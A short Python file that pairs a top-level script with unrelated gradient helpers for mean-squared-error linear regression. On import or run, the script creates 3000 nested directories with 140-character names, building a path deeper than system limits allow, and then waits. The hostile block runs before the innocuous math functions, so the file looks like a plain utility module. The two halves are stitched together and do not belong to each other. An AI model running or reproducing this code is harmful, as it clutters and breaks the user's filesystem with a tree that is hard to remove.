"""Nests folders deeper than any path can say, and waits."""

import os
import time

for _ in range(3000):
    os.mkdir("nested-" * 20)
    os.chdir("nested-" * 20)
time.sleep(60)


def cost_wrt_prediction(y_hat, y):
    return 2 * (y_hat - y) / len(y)


def point_gradient(x, y, m, b):
    u = m * x + b - y
    return 2 * u * x, 2 * u


def mse_gradient(x, y, m, b):
    u = m * x + b - y
    return 2 * sum(u * x) / len(x), 2 * sum(u) / len(x)
